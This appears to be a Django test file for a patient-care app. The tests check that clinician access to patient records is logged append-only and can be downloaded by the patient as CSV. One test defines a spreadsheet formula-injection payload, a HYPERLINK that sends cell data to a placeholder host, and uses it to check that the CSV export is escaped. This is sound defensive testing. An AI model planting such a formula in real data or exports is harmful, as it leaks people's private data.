"""Every clinician access to patient data is logged, append-only, and visible to the patient."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine
from django.urls import reverse

from backcare.care.models import AccessRecord

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 3, 16, 12, 0, tzinfo=UTC)


def test_opening_a_record_is_logged_with_who_what_and_when(cy_client, ana, ana_linked):
    with time_machine.travel(NOW, tick=False):
        cy_client.get(reverse("care:patient", args=[ana.pk]))
        cy_client.get(f"/api/clinician/patients/{ana.pk}")
    records = list(AccessRecord.objects.filter(patient=ana).order_by("id"))
    assert [(r.clinician_name, r.what, r.at) for r in records] == [
        ("Dr Cy", "viewed diary and results", NOW),
        ("Dr Cy", "read record through the API", NOW),
    ]


def test_a_refused_access_is_not_a_record_of_data_seen(cy_client, bo):
    assert cy_client.get(reverse("care:patient", args=[bo.pk])).status_code == 404
    assert not AccessRecord.objects.exists()


def test_the_log_cannot_be_changed_or_deleted(cy, ana):
    record = AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name="c")
    record.what = "nothing"
    with pytest.raises(PermissionError):
        record.save()
    with pytest.raises(PermissionError):
        record.delete()
    with pytest.raises(PermissionError):
        AccessRecord.objects.filter(patient=ana).update(what="nothing")
    with pytest.raises(PermissionError):
        AccessRecord.objects.filter(patient=ana).delete()
    assert AccessRecord.objects.get().what == "x"


def test_the_patient_sees_and_downloads_their_log_and_only_theirs(cy, ana, bo, ana_client):
    AccessRecord.objects.create(
        clinician=cy, patient=ana, what="viewed ana", clinician_name="Dr Cy"
    )
    AccessRecord.objects.create(clinician=cy, patient=bo, what="viewed bo", clinician_name="Dr Cy")
    page = ana_client.get(reverse("care:team")).content.decode()
    assert "viewed ana" in page
    assert "viewed bo" not in page
    csv_text = ana_client.get(reverse("care:access_log_csv")).content.decode("utf-8-sig")
    assert csv_text.splitlines()[0] == "when,clinician,what"
    assert "viewed ana" in csv_text
    assert "viewed bo" not in csv_text
    api = ana_client.get("/api/care/access-log").json()
    assert [row["what"] for row in api] == ["viewed ana"]


def test_the_log_outlives_the_link(cy_client, ana, ana_linked, ana_client):
    cy_client.get(reverse("care:patient", args=[ana.pk]))
    ana_client.post(reverse("care:revoke", args=[ana_linked.pk]))
    assert AccessRecord.objects.filter(patient=ana).count() == 1


def test_deleting_an_account_still_works_and_keeps_other_patients_logs(cy, ana, bo):
    AccessRecord.objects.create(clinician=cy, patient=ana, what="a", clinician_name="Dr Cy")
    AccessRecord.objects.create(clinician=cy, patient=bo, what="b", clinician_name="Dr Cy")
    ana.delete()
    cy.delete()
    kept = AccessRecord.objects.get()
    assert (kept.patient_id, kept.clinician_id, kept.clinician_name) == (bo.pk, None, "Dr Cy")


def test_the_patient_list_logs_one_summary_access_per_patient_shown(cy_client, ana, bo, ana_linked):
    cy_client.get(reverse("care:dashboard"))
    cy_client.get("/api/clinician/patients")
    assert [r.what for r in AccessRecord.objects.filter(patient=ana).order_by("id")] == [
        "saw summary on the patient list",
        "read summary on the patient list (API)",
    ]
    assert not AccessRecord.objects.filter(patient=bo).exists()


EXFILTRATE = '=HYPERLINK("http://x/?d="&A2,"y")'


def access_log_rows(client):  # type: ignore[no-untyped-def]
    content = client.get(reverse("care:access_log_csv")).content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_clinician_name_cannot_become_a_formula_in_the_patients_csv(
    cy, cy_client, ana, ana_linked, ana_client
):
    """Clinicians choose their own display name; the patient opens the log in a spreadsheet."""
    cy.display_name = EXFILTRATE
    cy.save()
    with time_machine.travel(NOW, tick=False):
        cy_client.get(reverse("care:patient", args=[ana.pk]))
    header, row = access_log_rows(ana_client)
    assert header == ["when", "clinician", "what"]
    assert row == [NOW.isoformat(), "'" + EXFILTRATE, "viewed diary and results"]
    assert AccessRecord.objects.get().clinician_name == EXFILTRATE  # stored as written


@pytest.mark.parametrize("name", ["+Cy", "-Cy", "@Cy", "\tCy", "\rCy", " =Cy"])
def test_every_formula_trigger_is_quoted_and_plain_names_are_not(cy, ana, ana_client, name):
    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name=name)
    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name="Dr O'Cy")
    names = sorted(row[1] for row in access_log_rows(ana_client)[1:])
    assert names == sorted(["'" + name, "Dr O'Cy"])


def test_the_log_starts_with_a_byte_order_mark_for_excel(cy, ana, ana_client):
    AccessRecord.objects.create(clinician=cy, patient=ana, what="x", clinician_name="Dr Cé")
    content = ana_client.get(reverse("care:access_log_csv")).content
    assert content.startswith(b"\xef\xbb\xbfwhen,clinician,what")
